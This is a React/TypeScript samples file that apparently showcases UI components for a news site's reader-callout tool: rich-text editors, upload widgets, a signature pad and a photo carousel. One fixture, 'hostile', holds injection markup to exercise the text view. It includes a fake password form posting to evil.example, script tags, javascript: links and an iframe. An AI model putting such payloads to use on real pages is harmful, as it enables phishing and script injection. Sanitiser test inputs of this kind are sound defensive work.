import { RichTextView } from '../base/rich-text-view.tsx'
import { PlainTextView } from '../joining/plain-text-view.tsx'
import { CodeList } from '../media/code-list.tsx'
import { DocumentUpload } from '../media/document-upload.tsx'
import type { StoredFile } from '../media/file-list.tsx'
import { ImageUpload, type StoredImage } from '../media/image-upload.tsx'
import { PhotoCarousel } from '../media/photo-carousel.tsx'
import { QrCode } from '../media/qr-code.tsx'
import { SharePanel } from '../media/share-panel.tsx'
import { Signature } from '../media/signature.tsx'
import type { Upload } from '../media/uploads.ts'
import { LinkDialog } from '../rich-text/link-dialog.tsx'
import { PictureDialog } from '../rich-text/picture-dialog.tsx'
import { RichTextEditor } from '../rich-text/rich-text-editor.tsx'
import { sanitiseHtml } from '../rich-text/sanitise-html.ts'
import { WrittenTextView } from '../rich-text/written-text-view.tsx'
import { Live, never, Opens, picture, type Samples } from './sample.tsx'

const text =
  '<h1>Thank you, you helped draw the map.</h1><p>Two reporters read <em>every</em> response. <a href="#rich-text-and-media">We ask you</a> before we quote you.</p><ul><li>First the streets</li><li>Then the cellars</li></ul>'
const paragraphs =
  '<p><strong>Thank you, you helped draw the map.</strong></p><p>Two reporters read every response. We ask you before we quote you.</p>'
const hostile =
  '<p style="text-align:center;position:fixed" class="x" id="app">Words <mark>stay</mark></p><form action="https://evil.example">Your password:<input name="password"><button>Log in</button></form><script>x()</script><noscript>none</noscript><svg><a href="javascript:x()">drawn</a></svg><iframe src="https://evil.example"></iframe><img src="data:image/png;base64,AA"><a href="java\nscript:x()">one</a> <a href="https://harbourpost.test" target="_self">other</a><!-- gone -->'
const plain = `Good to have you here.\n\nThree lines\nof one <b>paragraph</b>\nfollow.\n\nhttps://harbourpost.test/${'the-whole-story-'.repeat(6)}`
const stored: StoredImage = { url: picture('#17324a'), name: 'quay.jpg', isImage: true, alt: 'The quay under water' }
const report: StoredFile = { url: 'data:text/plain,report', name: 'flood-report.pdf', size: 2_400_000 }
const photo = { name: 'cellar.jpg', size: 4_100_000, type: 'image/jpeg' }
const scan = { name: 'letter.pdf', size: 800_000, type: 'application/pdf' }
const underway: Upload[] = [{ id: -1, file: photo, percent: 62 }]
const refused: Upload[] = [
  { id: -2, file: { ...photo, name: 'film.mov' }, percent: 0, failure: 'wrongType' },
  { id: -3, file: { ...photo, name: 'huge.jpg' }, percent: 0, failure: 'tooLarge' },
  { id: -4, file: { ...photo, name: 'tenth.jpg' }, percent: 0, failure: 'tooMany' },
  { id: -5, file: { ...photo, name: 'torn.jpg' }, percent: 0, failure: 'unreadable' },
  { id: -6, file: { ...photo, name: 'lost.jpg' }, percent: 0, failure: 'failed' },
]
const signed = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="560" height="200" viewBox="0 0 560 200"><path d="M60 130c40-120 70-90 40 0 40-90 70-70 50 0 30-60 60-60 60-10s70 20 110-40" fill="none" stroke="#111" stroke-width="3"/></svg>')}`

const image =
  (label: string, start: StoredImage | null, more: object = {}) =>
  () => (
    <Live start={start}>
      {(value, change) => <ImageUpload label={label} value={value} onChange={change} upload={never} {...more} />}
    </Live>
  )
const documents =
  (label: string, start: readonly StoredFile[], more: object = {}) =>
  () => (
    <Live start={start}>
      {(value, change) => (
        <DocumentUpload label={label} multiple value={value} onChange={change} upload={never} {...more} />
      )}
    </Live>
  )
const signature =
  (label: string, start: string | null, more: object = {}) =>
  () => (
    <Live start={start}>
      {(value, change) => <Signature label={label} value={value} onChange={change} {...more} />}
    </Live>
  )
const editor =
  (label: string, start: string, more: object = {}) =>
  () => (
    <Live start={start}>
      {(value, change) => <RichTextEditor label={label} value={value} onChange={change} {...more} />}
    </Live>
  )
const photos = ['#17324a', '#0f766e', '#b45309'].map((colour, index) => ({
  url: picture(colour),
  alt: `Photo number ${index + 1}`,
}))

export const mediaSamples: Samples = {
  RichTextView: {
    default: () => <RichTextView html={sanitiseHtml(text)} startLevel={4} />,
    small: () => <RichTextView html={sanitiseHtml(paragraphs)} size="ui" />,
  },
  WrittenTextView: { hostile: () => <WrittenTextView html={hostile} size="body" /> },
  PlainTextView: { default: () => <PlainTextView text={plain} /> },
  RichTextEditor: {
    filled: editor('Thank-you text', paragraphs, { hint: 'Shown after the form has been sent' }),
    empty: editor('Introduction', '', { placeholder: 'What do you want to know, and why?' }),
    error: editor('Introduction, missing', '', { required: true, error: 'Text is required' }),
    'read-only': editor('Introduction, shown', paragraphs, { readOnly: true }),
    'few tools': editor('Comment', '', { few: true, placeholder: 'Write for your colleagues' }),
  },
  LinkDialog: {
    default: () => (
      <Opens label="Link">
        {(open, close) =>
          open && <LinkDialog href="https://harbourpost.test" onClose={close} onSave={() => undefined} />
        }
      </Opens>
    ),
    'invalid link': () => (
      <Opens label="Link, wrong">
        {(open, close) => open && <LinkDialog href="ftp://harbourpost.test" onClose={close} onSave={() => undefined} />}
      </Opens>
    ),
  },
  PictureDialog: {
    new: () => (
      <Opens label="Picture">
        {(open, close) =>
          open && <PictureDialog value={null} upload={never} onClose={close} onSave={() => undefined} />
        }
      </Opens>
    ),
    stored: () => (
      <Opens label="Picture, there">
        {(open, close) =>
          open && (
            <PictureDialog value={{ ...stored, path: '' }} upload={never} onClose={close} onSave={() => undefined} />
          )
        }
      </Opens>
    ),
  },
  ImageUpload: {
    empty: image('Cover image', null),
    dragging: image('Cover image, hovering', null, { initially: { dragging: true } }),
    uploading: image('Cover image, on its way', null, { initially: { uploads: underway } }),
    stored: image('Cover image, there', stored, { withAlt: true }),
    refused: image('Cover image, refused', null, { initially: { uploads: refused } }),
    error: image('Cover image, missing', null, { error: 'Add a picture', required: true }),
    disabled: image('Cover image, fixed', stored, { disabled: true }),
  },
  DocumentUpload: {
    empty: documents('Documents', []),
    uploading: documents('Documents, on their way', [report], {
      initially: { uploads: [{ id: -7, file: scan, percent: 20 }] },
    }),
    stored: documents('Documents, there', [report]),
    refused: documents('Documents, refused', [], {
      initially: { uploads: [{ id: -8, file: scan, percent: 0, failure: 'failed' }] },
    }),
    disabled: documents('Documents, fixed', [report], { disabled: true }),
  },
  Signature: {
    empty: signature('Your signature', null),
    signed: signature('Your signature, there', signed),
    error: signature('Your signature, missing', null, { error: 'Please sign', required: true }),
    'read-only': signature('Your signature, shown', signed, { readOnly: true }),
    disabled: signature('Your signature, fixed', null, { disabled: true }),
  },
  QrCode: {
    default: () => (
      <div className="row">
        <QrCode text="https://harbourpost.test/join" alt="Code for the join page" size={120} />
        <span className="small">harbourpost.test/join</span>
      </div>
    ),
  },
  CodeList: {
    default: () => (
      <CodeList
        codes={['k7m2p-9dfqx', 'w4tzn-c8hra', 'e5vgj-3ysub', 'q9xkd-p6mne']}
        label="Recovery codes"
        heading="Recovery codes for The Harbour Post, each works once"
        fileName="recovery-codes.txt"
      />
    ),
  },
  SharePanel: {
    closed: () => <SharePanel url="https://harbourpost.test/callouts/flood" title="Where does the water come in?" />,
    open: () => (
      <SharePanel url="https://harbourpost.test/callouts/flood" title="Where does the water come in?" defaultOpen />
    ),
  },
  PhotoCarousel: {
    first: () => <PhotoCarousel label="Photos" photos={photos} />,
    middle: () => <PhotoCarousel label="Photos, in the middle" photos={photos} start={1} />,
    last: () => <PhotoCarousel label="Photos, at the end" photos={photos} start={2} />,
    single: () => <PhotoCarousel label="One photo" photos={photos.slice(0, 1)} />,
    whole: () => <PhotoCarousel label="Photos, nothing cut off" photos={photos} whole />,
  },
}
